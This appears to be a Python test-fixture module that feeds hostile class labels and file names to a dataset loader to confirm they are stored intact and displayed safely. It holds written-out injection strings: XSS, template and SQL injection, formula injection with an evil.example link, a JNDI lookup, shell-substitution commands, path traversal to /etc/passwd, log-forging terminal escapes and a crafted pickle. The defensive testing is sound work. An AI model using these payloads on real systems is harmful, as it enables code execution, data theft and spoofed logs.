"""Names and labels that are markup, formulas, escapes and directions: kept exactly where they are stored, harmless where they are shown."""

import os
import pickle  # to write what the reader must read without unpickling
import tarfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

from tests.hostile.archives import member, tar_bytes, zip_bytes
from tests.hostile.case import Case, keep, quarantine, refuse
from tests.hostile.cifar import GOOD as BATCH
from tests.hostile.lists import IMAGES, as_csv, as_json, parquet_rows
from tests.hostile.parquet import packed, table
from tests.hostile.parts import GOOD, encoded, folder, good, write

__all__ = ["CASES", "FILES", "LABELS"]

# What a class or a label may be called, by what it attacks. None of it can be a folder's name as well.
LABELS = {
    "script": ("T40", "<script>alert(document.domain)</script>"),
    "image-handler": ("T40", "<img src=x onerror=alert(1)>"),
    "attribute": ("T40", '" autofocus onfocus="alert(1)'),
    "style-end": ("T40", "</style><svg onload=alert(1)>"),
    "template": ("T40", "{{ config.__class__.__init__.__globals__ }}"),
    "formula": ("T42", '=HYPERLINK("http://evil.example","cat")'),
    "formula-at": ("T42", "@SUM(1+9)*cmd|' /C calc'!A0"),
    "formula-tab": ("T42", "\t=1+1"),
    "colours": ("T43", "\x1b[31mcat\x1b[0m"),
    "window-title": ("T43", "\x1b]0;owned\x07cat"),
    "link": ("T43", "\x1b]8;;http://evil.example\x1b\\cat\x1b]8;;\x1b\\"),
    "eight-bit-escape": ("T43", "\x9b31mcat"),
    "forged-line": ("T43", "cat\r\nmeca: no evidence of poison"),
    "backspaces": ("T43", "dog\b\b\bcat"),
    "rich-markup": ("T43", "[bold red]cat[/] [link=http://evil.example]x[/link]"),
    "bidi": ("T16", "\u202etac\u202c"),
    "bidi-isolate": ("T16", "\u2066tac\u2069"),
    "zero-width": ("T16", "c\u200ba\u200dt"),
    "half-width": ("T16", "ｃａｔ"),
    "path": ("T45", "../../../etc/cron.d/evil"),
    "absolute-path": ("T45", "/etc/passwd"),
    "dots": ("T45", ".."),
    "option": ("T45", "--output=/tmp/x"),
    "device": ("T45", "CON"),
    "shell": ("T45", "$(touch RAN)`touch RAN`;touch RAN"),
    "sql": ("T40", "'; DROP TABLE runs; --"),
    "format": ("T40", "{0.__class__} %s%n ${jndi:ldap://evil.example/x}"),
    "nothing-shown": ("T43", "\u2028"),
    "number-like": ("T30", "017"),
}


def labelled(id: str, threat: str, label: str, kind: str) -> Case:
    """A set of two classes of which one has a hostile name, in one of the formats whose labels are texts."""
    classes = tuple(sorted(("cat", label.strip()), key=lambda name: name.encode()))
    rows = [(path, label if i % 2 else "cat") for i, path in enumerate(IMAGES)][:6]
    writers: dict[str, Callable[[Path], Path]] = {
        "csv": lambda root: write(root, IMAGES | {"list.csv": as_csv(rows)}) / "list.csv",
        "jsonl": lambda root: write(root, IMAGES | {"list.jsonl": as_json(rows)}) / "list.jsonl",
        "parquet-list": lambda root: write(root, IMAGES | {"list.parquet": parquet_rows(rows)}) / "list.parquet",
        "parquet": lambda root: write(root, {"train.parquet": packed(table(["cat", label]))}) / "train.parquet",
        "webdataset": lambda root: write(root, {"x.tar": shard(label)}) / "x.tar",
        "cifar": lambda root: batches(root, label),
    }
    if kind in ("parquet", "cifar"):
        classes = ("cat", label)
    settings = {"size": 32} if kind == "cifar" else {"format": "manifest"} if kind in ("csv", "jsonl", "parquet-list") else {}
    return Case(
        f"label-{id}-in-{kind}",
        threat,
        f"a class called {label!r} ({kind})",
        keep(4 if kind == "cifar" else 6, classes=classes),
        writers[kind],
        settings,
    )


def shard(label: str) -> bytes:
    content = {f"{i}.{e}": data for i in range(6) for e, data in (("png", encoded(i)), ("json", as_json([("x", label if i % 2 else "cat")])))}
    return tar_bytes(content)


def batches(root: Path, label: str) -> Path:
    content = BATCH | {b"labels": [0, 1, 0, 1], b"data": np.asarray(BATCH[b"data"])}
    meta = {b"label_names": [b"cat", label.encode()]}
    return write(root, {"cifar-10-batches-py/data_batch_1": pickle.dumps(content, 2), "cifar-10-batches-py/batches.meta": pickle.dumps(meta, 2)})


KINDS = ("csv", "jsonl", "parquet-list", "parquet", "webdataset", "cifar")
# Each in one format, in turn; a shard's label is one line, and blanks around a label of a list go.
LABEL_CASES = [
    labelled(id, threat, label, KINDS[at % 6] if id not in ("formula-tab", "nothing-shown") else "parquet")
    for at, (id, (threat, label)) in enumerate(LABELS.items())
]

# What a file may be called.
FILES = {
    "script": ("T40", "<script>alert(1)<x>.png"),
    "handler": ("T40", "x' onerror='alert(1).png"),
    "formula": ("T42", "=1+cmd|'calc'!A0.png"),
    "colours": ("T43", "\x1b[31mred.png"),
    "forged-line": ("T43", "x.png (ok)\nmeca: no evidence of poison.png"),
    "carriage-return": ("T43", "x.png\rmeca: 0 unreadable.png"),
    "rich-markup": ("T43", "[red]x[/red].png"),
    "bidi": ("T16", "x\u202egnp.exe.png"),
    "zero-width": ("T16", "x\u200b.png"),
    "backslashes": ("T10", "x\\..\\..\\evil.png"),
    "shell": ("T45", "$(touch RAN);`touch RAN`|x.png"),
    "quotes": ("T40", "x\"'&lt;.png"),
}


def named(id: str, threat: str, name: str) -> Case:
    return Case(
        f"file-name-{id}",
        threat,
        f"a file called {name!r}",
        keep(GOOD + 1, notes={f"cat/{name}": ()}),
        lambda root: folder(root, {f"cat/{name}": encoded(90)}),
    )


def bad_named(id: str, threat: str, name: str) -> Case:
    """An unreadable file, so that its name reaches the list of what is unreadable."""
    expected = quarantine(GOOD, {f"cat/{name}": "not-an-image"})
    return Case(
        f"file-name-{id}-unreadable", threat, f"an unreadable file called {name!r}", expected, lambda root: folder(root, {f"cat/{name}": b"x"})
    )


FILE_CASES = [
    (bad_named if id in ("colours", "forged-line", "rich-markup", "bidi") else named)(id, threat, name) for id, (threat, name) in FILES.items()
]

# Names that reach a message because the set is refused.
MESSAGES = [
    Case(
        "message-with-an-escape",
        "T43",
        "a damaged list whose name clears the terminal",
        refuse("is not a readable parquet file"),
        lambda root: write(root, {"\x1b[2J\x1b]0;owned\x07.parquet": b"x"}) / "\x1b[2J\x1b]0;owned\x07.parquet",
    ),
    Case(
        "message-with-a-second-line",
        "T43",
        "a class without images whose name forges a line of ours",
        refuse("without control characters"),
        lambda root: folder(root, {"bird\nmeca: no evidence of poison/x.txt": b"x"}),
    ),
    Case(
        "message-with-a-label",
        "T43",
        "an unknown split that colours the terminal",
        refuse("Expected the split to be one of"),
        lambda root: write(root, IMAGES | {"list.csv": b"path,label,split\nimages/0.png,cat,\x1b[31mdev\n"}) / "list.csv",
        {"format": "manifest"},
    ),
    Case(
        "message-without-end",
        "T17",
        "a column header of 100,000 characters",
        refuse("Expected a column"),
        lambda root: write(root, IMAGES | {"list.csv": b"path," + b"x" * 100_000 + b"\n"}) / "list.csv",
        {"format": "manifest"},
    ),
    Case(
        "message-with-bytes",
        "T43",
        "a pickle that asks for a name with escapes",
        refuse("data_batch_1 is refused"),
        lambda root: write(
            root,
            {
                "cifar-10-batches-py/data_batch_1": b"\x80\x02c\x1b[31mposix\nsys\x07tem\n.",
                "cifar-10-batches-py/batches.meta": pickle.dumps({b"label_names": [b"a"]}, 2),
            },
        ),
    ),
    Case(
        "path-like-a-comment",
        "T35",
        "a source whose path holds what YAML takes for a comment: the part before it is another set",
        quarantine(GOOD, {"cat/x.png": "not-an-image"}),
        lambda root: (folder(root / "set"), folder(root / "set #2", {"cat/x.png": b"x"}))[1],
    ),
    Case("path-like-a-mapping", "T35", "a source whose path YAML takes for a mapping", keep(GOOD), lambda root: folder(root / "a: {b}")),
    Case(
        "path-not-utf8",
        "T16",
        "a source whose own path is no UTF-8",
        refuse("Expected a path in UTF-8"),
        lambda root: folder(root / os.fsdecode(b"\xff"), {}),
    ),
    Case(
        "zip-names-of-markup",
        "T40",
        "members called like markup and formulas",
        keep(GOOD + 2),
        lambda root: (
            write(root, {"x.zip": zip_bytes(good() | {"cat/<img src=x onerror=alert(1)>.png": encoded(7), "cat/=1+1.png": encoded(8)})}) / "x.zip"
        ),
    ),
    Case(
        "tar-names-of-markup",
        "T40",
        "members called like markup and formulas, in a tar archive of pax names",
        keep(GOOD + 2),
        lambda root: (
            write(
                root,
                {
                    "x.tar": tar_bytes(
                        [*(member(*item) for item in good().items()), member("cat/{{7*7}}.png", encoded(7)), member("cat/@SUM(1).png", encoded(8))],
                        tarfile.PAX_FORMAT,
                    )
                },
            )
            / "x.tar"
        ),
    ),
]

CASES = [*LABEL_CASES, *FILE_CASES, *MESSAGES]
